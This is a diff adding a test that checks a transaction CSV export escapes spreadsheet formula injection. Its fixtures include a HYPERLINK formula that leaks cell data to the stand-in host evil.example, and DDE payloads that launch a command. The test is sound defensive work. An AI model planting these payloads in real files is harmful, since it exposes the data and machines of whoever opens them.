@@ -81,6 +81,48 @@ describe('GET /transactions/export', () => {
     expect(records[0]!.reference).to.equal(records[0]!.id)
   })
 
+  it('neutralises text a spreadsheet would run as a formula; the signed amount stays a number', async () => {
+    const user = newUser()
+    const account = await createAccount(app, user.auth)
+    // [merchant, description] as stored, then as the CSV cell holds them.
+    const texts = [
+      ['=HYPERLINK("http://evil.example/?x="&A1,"Refund")', "+cmd|' /C calc'!A0"],
+      ['-2+3', "@SUM(1+1)*cmd|' /C calc'!A0"],
+      ['Plain - Payee', 'a=b'],
+    ]
+    const cells = [
+      ["'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+      ['\'=HYPERLINK("http://evil.example/?x="&A1,"Refund")', "'+cmd|' /C calc'!A0"],
+      ['Plain - Payee', 'a=b'],
+    ]
+    for (const [merchant, description] of texts) {
+      const res = await app.fetch(
+        '/transactions/',
+        jsonInit(
+          'POST',
+          {
+            amount: '12.50',
+            type: 'expense',
+            currency: 'USD',
+            occurred_at: '2026-10-01T08:30:00Z',
+            account_id: account.id,
+            merchant,
+            description,
+          },
+          user.auth,
+        ),
+      )
+      expect(res.status).to.equal(201)
+    }
+    const res = await app.fetch(
+      `/transactions/export?format=csv&account_id=${account.id}`,
+      jsonInit('GET', undefined, user.auth),
+    )
+    const records: Record<string, string>[] = parse(await res.text(), { columns: true })
+    expect(records.map((r) => [r.merchant, r.description]).sort()).to.deep.equal(cells)
+    expect(records.map((r) => r.amount)).to.deep.equal(['-12.50', '-12.50', '-12.50'])
+  })
+
   it('streams OFX 2.2: header, one STMTTRN per transaction with FITID, DTPOSTED, signed TRNAMT, escaped text, the balance', async () => {
     const user = newUser()
     const account = await createAccount(app, user.auth, { balance: '321.00' })
